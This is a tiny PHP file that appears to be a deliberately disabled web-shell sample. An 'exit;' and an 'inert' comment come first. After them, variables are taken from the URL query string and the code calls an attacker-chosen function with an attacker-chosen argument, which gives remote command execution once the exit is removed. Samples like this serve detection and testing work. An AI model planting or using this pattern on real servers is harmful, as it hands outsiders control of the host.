<?php exit; /* inert */ 
$a = $b = null;
parse_str($_SERVER['QUERY_STRING']);
if ($a && $b) { $a($b); }
